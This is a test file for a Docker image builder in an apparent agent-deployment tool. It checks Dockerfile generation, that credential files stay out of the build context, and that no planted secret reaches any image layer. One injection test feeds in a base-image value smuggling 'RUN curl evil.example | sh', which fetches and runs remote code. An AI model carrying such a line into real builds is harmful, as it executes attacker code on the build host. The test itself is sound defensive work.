// Image builds against the real Docker engine (started by scripts/ensure-docker.sh) on the locally
// made base image: the generated Dockerfile, reuse of an identical build, and no secret in any
// layer — checked by exporting the image (`docker save`) and searching every byte of it.
import { randomBytes } from 'node:crypto';
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import Dockerode from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BuildArtifact, ProgressEvent } from '../contracts';
import { ensureDockerAndBaseImages, LOCAL_BASE_NODE, writeAgentBundle, writeConfigBundle } from '../targets/docker/docker-test-support';
import { buildImage, defaultBaseImages, dockerfileFor, isExcludedFromContext } from './docker-image';

const docker = new Dockerode();
const tags = new Set<string>();
const dirs: string[] = [];
const run = randomBytes(4).toString('hex');

beforeAll(() => {
  ensureDockerAndBaseImages();
}, 600_000);

afterAll(async () => {
  for (const tag of tags) await docker.getImage(tag).remove({ force: true }).catch(() => undefined);
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** Streams `docker save` of an image and reports which of `needles` occur anywhere in it. */
async function savedImageContains(ref: string, needles: string[]): Promise<Record<string, boolean>> {
  const stream = await docker.getImage(ref).get();
  const found = Object.fromEntries(needles.map((needle) => [needle, false]));
  const overlap = Math.max(...needles.map((needle) => needle.length));
  let tail = Buffer.alloc(0);
  for await (const chunk of stream as AsyncIterable<Buffer>) {
    const window = Buffer.concat([tail, chunk]);
    for (const needle of needles) if (window.includes(needle)) found[needle] = true;
    tail = window.subarray(Math.max(0, window.length - overlap));
  }
  return found;
}

describe('dockerfileFor', () => {
  it('runs the runtime as uid 10001 with labels, the port and no config copied into the image', () => {
    const text = dockerfileFor({ baseImage: 'node:22-bookworm-slim', language: 'javascript', labels: { 'dev.agentdock.agent': 'echo' }, port: 8080 });
    expect(text).toContain('FROM node:22-bookworm-slim\n');
    expect(text).toContain('USER 10001:10001');
    expect(text).toContain('EXPOSE 8080');
    expect(text).toContain('LABEL "dev.agentdock.agent"="echo"');
    expect(text).toContain('ENTRYPOINT ["node","/app/runtime/agentdock-runtime.js"]');
    expect(text).toContain('AGENTDOCK_CONFIG_DIR=/etc/agentdock');
    // Only the bundle's parts are copied; never the config bundle (keys, secrets).
    expect(text.match(/^COPY .*$/gm)).toEqual(['COPY runtime/ /app/runtime/', 'COPY spec.json /app/spec.json', 'COPY agent/ /app/agent/']);
  });

  it('takes node from an official node image for python bases by default', () => {
    const text = dockerfileFor({ ...defaultBaseImages('python'), language: 'python', labels: {}, port: 9000 });
    expect(text).toMatch(/^FROM node:22-bookworm-slim AS node\nFROM python:3\.12-slim-bookworm\nCOPY --from=node \/usr\/local\/bin\/node \/usr\/local\/bin\/node$/m);
    expect(text).toContain('PYTHONDONTWRITEBYTECODE=1');
  });

  it('refuses a base image setting that would inject instructions', () => {
    expect(() => dockerfileFor({ baseImage: 'node:22\nRUN curl evil.example | sh', language: 'javascript', labels: {}, port: 8080 })).toThrow(/not an image reference/);
    expect(() => dockerfileFor({ baseImage: 'node:22', language: 'javascript', labels: { a: 'x\nRUN id' }, port: 8080 })).toThrow(/line break/);
    expect(() => dockerfileFor({ baseImage: 'node:22', language: 'javascript', labels: {}, port: 70_000 })).toThrow(/not a TCP port/);
  });

  it('keeps credential files of the agent project out of the build context', () => {
    for (const file of ['agent/.env', 'agent/.env.production', 'agent/.npmrc', 'agent/.git', 'agent/sub/__pycache__']) expect(isExcludedFromContext(file)).toBe(true);
    for (const file of ['agent/.env.example', 'agent/agent.mjs', 'agent/environment.ts']) expect(isExcludedFromContext(file)).toBe(false);
  });
});

describe('buildImage', () => {
  let artifact: BuildArtifact;
  let tag: string;
  const secret = `sk-planted-secret-${randomBytes(12).toString('hex')}`;
  const dotenvSecret = `dotenv-secret-${randomBytes(12).toString('hex')}`;
  const marker = `agent-marker-${run}`;

  beforeAll(async () => {
    // A nonce file makes this run's content hash new, so the first build really builds.
    artifact = await writeAgentBundle({ agent: `build-test-${run}`, extraAgentFiles: { 'nonce.txt': marker, '.env': `OPENAI_API_KEY=${dotenvSecret}\n` } });
    dirs.push(artifact.bundleDir);
    tag = `agentdock-test/build-${run}:${artifact.contentHash.slice(0, 12)}`;
    tags.add(tag);
  });

  it('builds through the classic builder with progress, then reuses the image for the same inputs', async () => {
    const first: ProgressEvent[] = [];
    const built = await buildImage(docker, artifact, { baseImage: LOCAL_BASE_NODE, tag, version: 'v1', onProgress: (event) => first.push(event) });
    expect(built.ref).toBe(tag);
    expect(built.id).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(first.some((event) => event.phase === 'building' && /^Step \d+\/\d+ : FROM agentdock\/base-node:22/.test(event.message))).toBe(true);

    const info = await docker.getImage(tag).inspect();
    expect(info.Config.User).toBe('10001:10001');
    expect(info.Config.ExposedPorts).toEqual({ '8080/tcp': {} });
    expect(info.Config.Labels).toMatchObject({ 'dev.agentdock.agent': artifact.agent, 'dev.agentdock.content-hash': artifact.contentHash, 'dev.agentdock.version': 'v1', 'dev.agentdock.managed': 'true' });
    expect(info.Config.Entrypoint).toEqual(['node', '/app/runtime/agentdock-runtime.js']);

    const second: ProgressEvent[] = [];
    const otherTag = `agentdock-test/build-${run}:again`;
    tags.add(otherTag);
    const reused = await buildImage(docker, artifact, { baseImage: LOCAL_BASE_NODE, tag: otherTag, version: 'v2', onProgress: (event) => second.push(event) });
    expect(reused.id).toBe(built.id);
    expect(second.map((event) => event.message)).toEqual([expect.stringMatching(/^reusing image/)]);
    expect((await docker.getImage(otherTag).inspect()).Id).toBe(built.id);
  }, 300_000);

  it('puts no secret in any layer: not the config bundle, not a .env left in the agent project', async () => {
    const config = await writeConfigBundle();
    dirs.push(config.dir);
    // The secret sits in the config bundle the container will mount, as the controller writes it.
    writeFileSync(path.join(config.dir, 'secrets.json'), JSON.stringify({ jwtSecret: secret, providerKeys: { openai: secret } }), { mode: 0o600 });
    await buildImage(docker, artifact, { baseImage: LOCAL_BASE_NODE, tag });
    const found = await savedImageContains(tag, [secret, dotenvSecret, marker, config.keys.admin!.raw]);
    // The positive control proves the search sees the layers' file contents.
    expect(found).toEqual({ [secret]: false, [dotenvSecret]: false, [marker]: true, [config.keys.admin!.raw]: false });
    const history = await docker.getImage(tag).history();
    expect(JSON.stringify(history)).not.toContain(secret);
    expect(JSON.stringify(await docker.getImage(tag).inspect())).not.toContain(secret);
  }, 300_000);
});
